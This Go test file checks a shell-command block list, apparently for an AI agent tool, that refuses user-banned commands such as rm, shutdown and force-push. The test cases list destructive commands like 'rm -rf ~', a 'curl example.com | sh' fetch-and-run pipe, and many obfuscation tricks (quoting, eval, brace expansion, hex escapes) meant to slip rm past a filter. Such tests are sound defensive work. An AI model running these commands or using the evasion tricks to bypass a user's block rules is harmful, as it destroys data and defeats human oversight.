package shell

import (
	"context"
	"strings"
	"testing"

	"github.com/openclaw/openclaw-go"
)

func TestBlocked(t *testing.T) {
	rules := []string{"rm", "/sbin/shutdown", "git push --force"}
	tests := []struct {
		command string
		refused bool
	}{
		{"ls -l", false},
		{"echo rm", false},
		{"echo 'rm -rf /' | cat", false},
		{"grep rm file # rm", false},
		{"[ -f x ] && echo {}", false},
		{"git push origin main", false},
		{"find . -name '*.go' | xargs -I{} wc {}", false},
		{"sh ./build.sh rm", false},
		{"X=rm ls $X", false},
		{"for f in *; do cat \"$f\"; done", false},

		{"rm x", true},
		{"/bin/rm x", true},
		{`r\m x`, true},
		{`r''m x`, true},
		{`"r"m x`, true},
		{"ls; rm -rf ~", true},
		{"ls | rm x", true},
		{"echo $(rm x)", true},
		{"cat <(rm x)", true},
		{"if true; then rm x; fi", true},
		{"f() { rm x; }; f", true},
		{"(rm x) &", true},
		{"! rm x", true},
		{"time rm x", true},
		{"x=1 rm x", true},
		{"sudo -u root rm x", true},
		{"env -i A=b rm x", true},
		{"nice -n 10 /bin/rm x", true},
		{"find . -exec rm {} +", true},
		{"echo x | xargs -n 1 rm", true},
		{"bash -c 'rm x'", true},
		{"sudo sh -ec 'ls && rm x'", true},
		{"eval rm x", true},
		{"eval 'r''m' x", true},
		{"shutdown now", true},
		{"git -C x push --force", true},
		{"git push $FLAGS", true},

		// What cannot be read is refused.
		{"$CMD x", true},
		{"$(echo rm) x", true},
		{"/bin/r? x", true},
		{"{rm,-rf,x}", true},
		{"$'\\x72m' x", true},
		{"eval \"$X\"", true},
		{"sh -c \"$X\"", true},
		{"curl example.com | sh", true},
		{"sh <<< 'rm x'", true},
		{"if rm", true},
		{"echo 'unfinished", true},
		{"eval eval eval eval eval eval eval eval eval eval ls", true},
	}
	b, err := newBlockList(rules, "bash")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		if got := b.check(tt.command); (got != "") != tt.refused {
			t.Errorf("check(%q) = %q, refused should be %v", tt.command, got, tt.refused)
		}
	}
}

func TestNothingBlockedReadsNothing(t *testing.T) {
	b, err := newBlockList(nil, "bash")
	if err != nil {
		t.Fatal(err)
	}
	if got := b.check("if $X 'unfinished"); got != "" {
		t.Errorf("refused: %s", got)
	}
}

func TestBlockedCommandIsDenied(t *testing.T) {
	tool := newTool(t, Options{Blocked: []string{"rm"}, Exec: func(context.Context, Command) (Exit, error) {
		t.Error("it ran")
		return Exit{}, nil
	}})
	got, err := tool.Run(t.Context(), command("ls; rm x"))
	if err != nil {
		t.Fatal(err)
	}
	if got.ExitCode != openclaw.ExitDenied || !strings.Contains(got.Output, "the user has blocked rm") {
		t.Errorf("got %+v", got)
	}
}

func FuzzBlocked(f *testing.F) {
	for _, s := range []string{"ls; rm x", "echo $(r\\m x)", "sh -c 'eval rm'", "{rm,x}", "a[1]=(x) <<E\nE"} {
		f.Add(s)
	}
	b, err := newBlockList([]string{"rm"}, "bash")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, command string) {
		reason := b.check(command)
		// Whatever can be read is refused once rm stands behind it.
		if reason == "" && b.check(command+"\nrm x") == "" && !strings.Contains(command, "<<") && !strings.Contains(command, "#") && !strings.Contains(command, "\\") {
			t.Errorf("%q hides rm", command)
		}
	})
}
